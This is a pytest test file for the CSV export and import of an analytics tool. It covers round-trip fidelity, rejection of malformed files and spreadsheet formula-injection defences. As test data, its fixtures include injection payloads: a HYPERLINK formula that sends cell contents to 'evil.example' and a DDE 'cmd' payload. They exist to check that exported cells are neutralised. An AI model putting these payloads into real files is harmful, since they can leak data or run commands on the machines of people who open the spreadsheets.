"""CSV export and import: what leaves is what was stored, spreadsheets cannot be tricked into
running a visitor's text, and a bad file imports nothing."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import orjson
import pytest
import sqlalchemy as sa
from click.testing import CliRunner

from conftest import count_rows, empty_database
from footfall.cli import main
from footfall.demo import DEMO_PLACES, generate_demo
from footfall.export import (
    CHUNK_BYTES,
    COLUMNS,
    ImportSummary,
    count_events,
    export_rows,
    import_csv,
    iter_csv_bytes,
    write_csv,
)
from footfall.ingest.event import Event
from footfall.store import Store
from footfall.store.schema import custom_event, page_view, visit, visit_session

NOW = datetime(2024, 6, 20, 10, 37, 12, 345678, tzinfo=UTC)
DAYS = 3
DANGEROUS_START = frozenset("=+-@\t\r")


def _event(name: str, at: datetime, **fields: Any) -> Event:
    fields.setdefault("hostname", "example.com")
    fields.setdefault("path", "/")
    fields.setdefault("visitor_id", 11)
    fields.setdefault("session_id", 22)
    return Event(name=name, timestamp=at, **fields)


def handmade_events() -> list[Event]:
    """Events whose cells a spreadsheet would run, or that stress quoting and encoding."""
    at = NOW - timedelta(hours=5)
    return [
        _event(
            "pageview",
            at,
            path='=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
            referrer="+1",
            referrer_source="-2",
            utm_source="@SUM(A1:A9)",
            utm_medium="\tindented",
            utm_campaign="\rcarriage",
            utm_content="'=already quoted",
            utm_term="''-two quotes",
            country="DE",
            device="desktop",
            browser="Firefox",
            browser_version="126",
            os="Linux",
            visitor_id=2**63 - 1,
            session_id=1,
        ),
        _event(
            "=cmd|' /C calc'!A0",
            at + timedelta(microseconds=1),
            hostname="例え.jp",
            path='/ünïcode,"quoted"\nsecond line\r\nthird',
            properties={
                "formula": "=1+1",
                "comma": "a,b",
                "quote": 'say "hi"',
                "newline": "a\nb\r\nc",
                "unicode": "Zürich 東京 🙂",
                "negative": -3,
                "float": 1.5,
                "flag": False,
                "nothing": None,
            },
            interactive=False,
            referrer="https://x.example/a,b",
            referrer_source="x.example",
            utm_source="-",
            browser='Edge, "Chromium"',
        ),
        _event("Handmade", at.replace(microsecond=0), path="'plain quote", utm_source="'"),
        _event("-negative", at + timedelta(seconds=3), path="@home", properties={"plan": "+pro"}),
        _event("pageview", at + timedelta(seconds=4), path="/a\tb", utm_term="x=1"),
    ]


@pytest.fixture
def source(database_url: str) -> Iterator[Store]:
    """Three days of demo traffic plus the hand-made events."""
    store = Store(database_url)
    generate_demo(store, pageviews=2_000, days=DAYS, now=NOW, seed=3)
    store.writer.write_now(handmade_events())
    yield store
    store.close()


@pytest.fixture
def second_url(database_url: str, tmp_path: Path) -> Iterator[str]:
    """Another empty database of the same kind as ``database_url``."""
    kind = "sqlite" if database_url.startswith("sqlite") else "postgresql"
    with empty_database(kind, tmp_path, "second.db") as url:
        yield url


@pytest.fixture
def target(second_url: str) -> Iterator[Store]:
    store = Store(second_url)
    yield store
    store.close()


def stored(store_or_url: Store | str, table: sa.Table) -> list[tuple[Any, ...]]:
    """Every row of ``table`` but its id, sorted: ids are the database's, not the event's."""
    engine = (
        store_or_url.engine if isinstance(store_or_url, Store) else sa.create_engine(store_or_url)
    )
    columns = [c for c in table.c if c.name != "id"]
    with engine.connect() as conn:
        rows = [tuple(row) for row in conn.execute(sa.select(*columns))]
    if not isinstance(store_or_url, Store):
        engine.dispose()
    return sorted(rows, key=repr)


def everything(store_or_url: Store | str) -> dict[str, list[tuple[Any, ...]]]:
    return {t.name: stored(store_or_url, t) for t in (page_view, custom_event, visit_session)}


def export_text(store: Store, **bounds: datetime) -> str:
    out = io.StringIO(newline="")
    write_csv(export_rows(store, **bounds), out)
    return out.getvalue()


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_export_has_the_header_every_row_and_neutralised_cells(source: Store) -> None:
    text = export_text(source)
    rows = parse(text)
    assert tuple(rows[0]) == COLUMNS
    body = rows[1:]
    database_url = str(source.engine.url.render_as_string(hide_password=False))
    pageviews = count_rows(database_url, "page_view")
    customs = count_rows(database_url, "custom_event")
    assert len(body) == pageviews + customs == count_events(source)
    assert all(len(row) == len(COLUMNS) for row in body)
    # Page views first, then custom events, each in time order.
    kinds = [row[0] for row in body]
    assert kinds == ["pageview"] * pageviews + ["event"] * customs
    for kind in ("pageview", "event"):
        stamps = [row[1] for row in body if row[0] == kind]
        assert stamps == sorted(stamps)
    assert all(row[1].endswith("Z") and len(row[1]) == 27 for row in body)
    # What a spreadsheet would run arrives quoted; nothing starts dangerously.
    for cell in (
        "'=HYPERLINK(",
        "'+1",
        "'-2",
        "'@SUM(A1:A9)",
        "'\tindented",
        "'\rcarriage",
        "''=already quoted",
        "'''-two quotes",
        "'=cmd|",
        "'-negative",
        "'@home",
        ",'-,",
    ):
        assert cell in text, cell
    assert not [cell for row in body for cell in row if cell[:1] in DANGEROUS_START]
    # Harmless quotes and text stay as they are.
    assert ",'plain quote," in text and ",',," in text and "/a\tb" in text
    signup = next(row for row in body if row[2] == "Handmade")
    assert signup[1] == (NOW - timedelta(hours=5)).replace(microsecond=0).strftime(
        "%Y-%m-%dT%H:%M:%S.000000Z"
    )
    special = next(row for row in body if row[2] == "'=cmd|' /C calc'!A0")
    assert special[6] == "false" and special[3] == "例え.jp"
    assert orjson.loads(special[5])["unicode"] == "Zürich 東京 🙂"


def test_round_trip_reproduces_every_row(source: Store, target: Store) -> None:
    text = export_text(source)
    progress: list[int] = []
    summary = import_csv(
        target, io.StringIO(text, newline=""), batch_size=700, progress=progress.append
    )
    before, after = everything(source), everything(target)
    assert summary == ImportSummary(
        pageviews=len(before["page_view"]), custom_events=len(before["custom_event"])
    )
    assert sum(progress) == len(before["page_view"]) + len(before["custom_event"])
    assert max(progress) == 700
    for table in before:
        assert after[table] == before[table], table
    # Properties come back as the same JSON, flags and microseconds as they were.
    special = next(row for row in after["custom_event"] if row[1] == "=cmd|' /C calc'!A0")
    assert orjson.loads(special[3]) == handmade_events()[1].properties
    assert special[4] is False
    assert export_text(target) == text


def test_range_bounds_are_start_inclusive_end_exclusive(source: Store) -> None:
    start = NOW - timedelta(days=2)
    end = NOW - timedelta(days=1)
    source.writer.write_now(
        [
            _event("pageview", start, path="/at-start"),
            _event("pageview", end, path="/at-end"),
            _event("Edge", end - timedelta(microseconds=1), path="/just-before-end"),
        ]
    )
    body = parse(export_text(source, start=start, end=end))[1:]
    paths = {row[4] for row in body}
    assert "/at-start" in paths and "/just-before-end" in paths and "/at-end" not in paths
    low, high = start.replace(tzinfo=None), end.replace(tzinfo=None)
    for row in body:
        moment = datetime.fromisoformat(row[1]).replace(tzinfo=None)
        assert low <= moment < high
    expected = sum(
        1
        for table in (page_view, custom_event)
        for row in stored(source, table)
        if low <= row[0] < high
    )
    assert len(body) == expected == count_events(source, start, end) > 100
    # One-sided bounds.
    assert len(parse(export_text(source, start=start))) - 1 == count_events(source, start)
    assert len(parse(export_text(source, end=end))) - 1 == count_events(source, None, end)
    with pytest.raises(ValueError, match="timezone-aware"):
        next(export_rows(source, start=start.replace(tzinfo=None)))


def test_csv_bytes_come_in_chunks_for_streaming(source: Store) -> None:
    text = export_text(source)
    chunks = list(iter_csv_bytes(export_rows(source)))
    assert b"".join(chunks) == text.encode()
    assert len(chunks) > 2
    assert all(CHUNK_BYTES <= len(chunk) < 2 * CHUNK_BYTES for chunk in chunks[:-1])


def test_write_csv_reports_progress(source: Store) -> None:
    seen: list[int] = []
    written = write_csv(export_rows(source), io.StringIO(newline=""), progress=seen.append)
    assert written == sum(seen) == count_events(source)
    assert write_csv(iter([]), io.StringIO()) == 0


# -- bad files --------------------------------------------------------------------------------


def sample_rows(source: Store, count: int = 8) -> list[list[str]]:
    """The header and the first demo page views (single-line rows)."""
    rows = export_rows(source)
    picked = [next(rows) for _ in range(count + 1)]
    rows.close()  # type: ignore[attr-defined]
    return picked


def as_csv(rows: list[list[str]]) -> str:
    out = io.StringIO(newline="")
    csv.writer(out).writerows(rows)
    return out.getvalue()


def _set(index: int, column: str, value: str) -> Callable[[list[list[str]]], None]:
    def change(rows: list[list[str]]) -> None:
        rows[index][COLUMNS.index(column)] = value

    return change


BAD_FILES: dict[str, tuple[Callable[[list[list[str]]], None], str]] = {
    "wrong header": (_set(0, "path", "url"), r"line 1: not a footfall export header"),
    "reordered header": (
        lambda rows: rows[0].reverse(),
        r"line 1: .*out of order",
    ),
    "bad timestamp": (_set(4, "timestamp", "2024-13-45T99:00:00Z"), r"line 5: timestamp"),
    "naive timestamp": (_set(4, "timestamp", "2024-06-19T10:00:00"), r"line 5: .*time zone"),
    "invalid json": (_set(6, "properties", '{"plan": pro}'), r"line 7: properties .*JSON"),
    "json not an object": (_set(6, "properties", "[1, 2]"), r"line 7: .*JSON object"),
    "bad type": (_set(3, "type", "click"), r"line 4: type must be"),
    "bad id": (_set(8, "visitor_id", "12abc"), r"line 9: visitor_id must be an integer"),
    "huge id": (_set(8, "session_id", str(2**64)), r"line 9: session_id .*64 bits"),
    "bad flag": (_set(2, "interactive", "maybe"), r"line 3: interactive"),
    "pageview named otherwise": (_set(2, "name", "Signup"), r"line 3: a pageview row"),
    "short row": (lambda rows: rows[5].pop(), r"line 6: expected 26 cells, found 25"),
    "bad engaged time": (_set(1, "engaged_ms", "-5"), r"line 2: engaged_ms must be empty or"),
    "deep scroll": (_set(1, "scroll_depth", "101"), r"line 2: scroll_depth must be empty or"),
}


@pytest.mark.parametrize("case", BAD_FILES)
def test_a_bad_file_names_the_line_and_imports_nothing(
    case: str, source: Store, target: Store
) -> None:
    rows = sample_rows(source)
    change, message = BAD_FILES[case]
    change(rows)
    with pytest.raises(ValueError, match=message):
        # Batches of two: the rows before the bad one would fill several.
        import_csv(target, io.StringIO(as_csv(rows), newline=""), batch_size=2)
    assert all(not rows for rows in everything(target).values())


def test_line_numbers_count_lines_not_rows(source: Store, target: Store) -> None:
    rows = sample_rows(source, 3)
    rows[1][COLUMNS.index("path")] = "/two\nlines"
    rows[2][COLUMNS.index("timestamp")] = "yesterday"
    with pytest.raises(ValueError, match="line 4: timestamp 'yesterday'"):
        import_csv(target, io.StringIO(as_csv(rows), newline=""))
    with pytest.raises(ValueError, match="line 1: the file is empty"):
        import_csv(target, io.StringIO(""))
    assert all(not rows for rows in everything(target).values())


def test_import_reads_paths_pipes_and_a_byte_order_mark(
    source: Store, target: Store, tmp_path: Path
) -> None:
    text = as_csv(sample_rows(source, 5))
    path = tmp_path / "events.csv"
    path.write_text("\ufeff" + text, encoding="utf-8", newline="")
    assert import_csv(target, path) == ImportSummary(pageviews=5, custom_events=0)

    class Pipe(io.StringIO):
        def seekable(self) -> bool:
            return False

    assert import_csv(target, Pipe(text, newline="")).pageviews == 5
    assert import_csv(target, str(path)).pageviews == 5
    assert len(stored(target, page_view)) == 15


# -- the commands -----------------------------------------------------------------------------


def test_export_and_import_commands_round_trip(
    source: Store, second_url: str, tmp_path: Path
) -> None:
    url = source.engine.url.render_as_string(hide_password=False)
    output = tmp_path / "export.csv"
    runner = CliRunner()
    result = runner.invoke(main, ["export", "--database", url, "--output", str(output)])
    assert result.exit_code == 0, result.output
    total = count_events(source)
    assert f"Exported {total:,} events" in result.output
    assert output.read_bytes().startswith(",".join(COLUMNS).encode() + b"\r\n")

    result = runner.invoke(main, ["import", str(output)], env={"FOOTFALL_DATABASE": second_url})
    assert result.exit_code == 0, result.output
    assert "Imported" in result.output
    assert everything(second_url) == everything(source)


def test_commands_pipe_through_standard_streams_byte_for_byte(
    source: Store, second_url: str
) -> None:
    """`footfall export | footfall import -`: carriage returns inside cells survive."""
    url = source.engine.url.render_as_string(hide_password=False)
    runner = CliRunner()
    exported = runner.invoke(main, ["export", "--database", url])
    assert exported.exit_code == 0, exported.output
    assert exported.stdout_bytes == export_text(source).encode()
    assert b"'\rcarriage" in exported.stdout_bytes
    assert "Exported" in exported.stderr
    imported = runner.invoke(
        main, ["import", "-", "--database", second_url], input=exported.stdout_bytes
    )
    assert imported.exit_code == 0, imported.output
    assert everything(second_url) == everything(source)


def test_export_command_days_and_ranges(source: Store, tmp_path: Path) -> None:
    url = source.engine.url.render_as_string(hide_password=False)
    runner = CliRunner()

    def exported(*options: str) -> list[list[str]]:
        result = runner.invoke(main, ["export", "--database", url, *options])
        assert result.exit_code == 0, result.output
        return parse(result.stdout)[1:]

    # --from/--to are whole UTC days, both included.
    day = (NOW - timedelta(days=1)).date()
    rows = exported("--from", day.isoformat(), "--to", day.isoformat())
    start = datetime.combine(day, datetime.min.time(), UTC)
    assert len(rows) == count_events(source, start, start + timedelta(days=1)) > 100
    assert {row[1][:10] for row in rows} == {day.isoformat()}
    assert len(exported("--from", day.isoformat())) == count_events(source, start)
    assert len(exported("--range", "all")) == count_events(source)
    # --range Nd counts back from the real now.
    real_now = datetime.now(UTC)
    source.writer.write_now(
        [
            _event("pageview", real_now - timedelta(hours=2), path="/recent"),
            _event("pageview", real_now - timedelta(days=2), path="/older"),
        ]
    )
    assert [row[4] for row in exported("--range", "1d")] == ["/recent"]
    assert len(exported("--range", "3d")) == 2
    for options, message in (
        (["--range", "fortnight"], "use all, or Nd"),
        (["--range", "7d", "--from", "2024-01-01"], "not both"),
        (["--from", "2024-02-01", "--to", "2024-01-01"], "--from is after --to"),
        (["--from", "01/02/2024"], "YYYY-MM-DD|%Y-%m-%d"),
    ):
        result = runner.invoke(main, ["export", "--database", url, *options])
        assert result.exit_code == 2, (options, result.output)
        assert any(part in result.output for part in message.split("|")), result.output


def test_import_command_refuses_a_bad_file_and_reads_stdin(
    source: Store, second_url: str, tmp_path: Path
) -> None:
    rows = sample_rows(source)
    good = as_csv(rows)
    rows[4][COLUMNS.index("timestamp")] = "not a time"
    bad = tmp_path / "bad.csv"
    bad.write_text(as_csv(rows), encoding="utf-8", newline="")
    runner = CliRunner()
    result = runner.invoke(main, ["import", str(bad), "--database", second_url])
    assert result.exit_code == 1
    assert "line 5: timestamp 'not a time'" in result.output
    assert "nothing was imported" in result.output
    assert count_rows(second_url, "page_view") == 0

    result = runner.invoke(main, ["import", "-", "--database", second_url], input=good)
    assert result.exit_code == 0, result.output
    assert "Imported 8 page views and 0 custom events." in result.output
    assert count_rows(second_url, "page_view") == 8


# -- spreadsheet safety, cell by cell ---------------------------------------------------------


def test_every_dangerous_first_character_is_neutralised_and_restored(
    sqlite_url: str, tmp_path: Path
) -> None:
    """Hand-written expectations for each dangerous first character, in text columns and in
    the id columns (a negative id would start with '-')."""
    at = datetime(2024, 6, 20, 10, 0, tzinfo=UTC)
    store = Store(sqlite_url)
    store.writer.write_now(
        [
            _event("pageview", at, path="-1", utm_term="-2.5", visitor_id=-5, session_id=-7),
            _event("pageview", at, path="=1+1", utm_source="+33 6 12", visitor_id=3),
            _event("pageview", at, path="@me", utm_medium="\tx", utm_campaign="\ry"),
            _event("-Signup", at, path="/ok", utm_content="plain", session_id=-(2**63)),
        ]
    )
    body = parse(export_text(store))[1:]
    column = {name: i for i, name in enumerate(COLUMNS)}
    cells = [
        {name: row[column[name]] for name in ("name", "path", "visitor_id", "session_id")}
        for row in body
    ]
    assert cells == [
        {"name": "pageview", "path": "'-1", "visitor_id": "'-5", "session_id": "'-7"},
        {"name": "pageview", "path": "'=1+1", "visitor_id": "3", "session_id": "22"},
        {"name": "pageview", "path": "'@me", "visitor_id": "11", "session_id": "22"},
        {
            "name": "'-Signup",
            "path": "/ok",
            "visitor_id": "11",
            "session_id": "'-9223372036854775808",
        },
    ]
    assert body[0][column["utm_term"]] == "'-2.5"
    assert body[1][column["utm_source"]] == "'+33 6 12"
    assert body[2][column["utm_medium"]] == "'\tx"
    assert body[2][column["utm_campaign"]] == "'\ry"
    assert body[3][column["utm_content"]] == "plain"
    assert not [cell for row in body for cell in row if cell[:1] in DANGEROUS_START]
    # Import takes the quote off again: the same ids and text come back.
    with empty_database("sqlite", tmp_path, "copy.db") as url:
        copy = Store(url)
        import_csv(copy, io.StringIO(export_text(store), newline=""))
        assert everything(copy) == everything(store)
        with copy.engine.connect() as conn:
            query = sa.select(page_view.c.visitor_id, page_view.c.session_id)
            assert (-5, -7) in {tuple(row) for row in conn.execute(query)}
        copy.close()
    store.close()


def test_engagement_goes_out_and_comes_back_and_old_files_still_import(
    source: Store, target: Store
) -> None:
    """A page view's engaged time and scroll depth (the two last columns) survive the
    round trip, and make its visit's engaged time again; a file exported before those
    columns existed imports with none."""
    rows = sample_rows(source)
    column = COLUMNS.index("engaged_ms")
    exported = sorted((int(r[column]), int(r[column + 1])) for r in rows[1:] if r[column])
    assert exported  # the demo's trackers report engagement
    assert all(r[column] == "" for r in rows[1:] if r[0] == "event")
    import_csv(target, io.StringIO(as_csv(rows), newline=""))
    with target.engine.connect() as conn:
        stored = conn.execute(
            sa.select(page_view.c.engaged_ms, page_view.c.scroll_depth).where(
                page_view.c.engaged_ms.is_not(None)
            )
        ).all()
        visits = conn.execute(sa.select(sa.func.sum(visit.c.engaged_ms))).scalar_one()
    assert sorted(tuple(r) for r in stored) == exported
    assert visits == sum(engaged for engaged, _ in exported)
    legacy = [row[:22] for row in rows]
    summary = import_csv(target, io.StringIO(as_csv(legacy), newline=""))
    assert summary.pageviews == sum(1 for r in rows[1:] if r[0] == "pageview")


def test_regions_and_cities_go_out_and_come_back_and_older_files_still_import(
    source: Store, target: Store
) -> None:
    """The demo's visitors of seven countries have a region and a city (the two last
    columns), those of its table; a file exported before those columns existed (24 of
    them) imports with none."""
    rows = sample_rows(source, 400)
    region = COLUMNS.index("region")
    exported = sorted({(r[COLUMNS.index("country")], r[region], r[region + 1]) for r in rows[1:]})
    placed = [(c, r, city) for c, r, city in exported if r]
    assert placed and len(placed) < len(exported)  # some visitors have a place, not all
    assert all((r, city) in DEMO_PLACES[c] for c, r, city in placed)
    earlier = [row[:24] for row in rows]
    summary = import_csv(target, io.StringIO(as_csv(earlier), newline=""))
    assert summary.pageviews == sum(1 for r in rows[1:] if r[0] == "pageview")
    with target.engine.connect() as conn:
        places = conn.execute(
            sa.select(sa.func.count()).where(page_view.c.region.is_not(None))
        ).scalar_one()
    assert places == 0
